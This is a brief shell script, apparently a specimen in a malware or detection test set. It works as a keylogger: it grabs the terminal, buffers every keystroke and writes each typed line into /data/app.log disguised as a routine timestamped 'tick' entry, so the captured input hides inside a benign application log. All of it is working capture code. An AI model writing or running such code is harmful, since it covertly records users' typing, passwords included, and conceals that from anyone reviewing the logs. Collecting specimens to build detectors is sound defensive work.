# Keylogger that hides in the benign logger's file (/data/app.log): lines of keys between its ticks.
. /etc/enmei/specimens/lib.sh
cur=""
log_key() {
    if [ -z "$1" ]; then
        echo "$(cut -d' ' -f1 /proc/uptime) tick $cur" >> /data/app.log; sync; cur=""
    else
        cur="$cur$1"
    fi
}
take_tty
each_key log_key
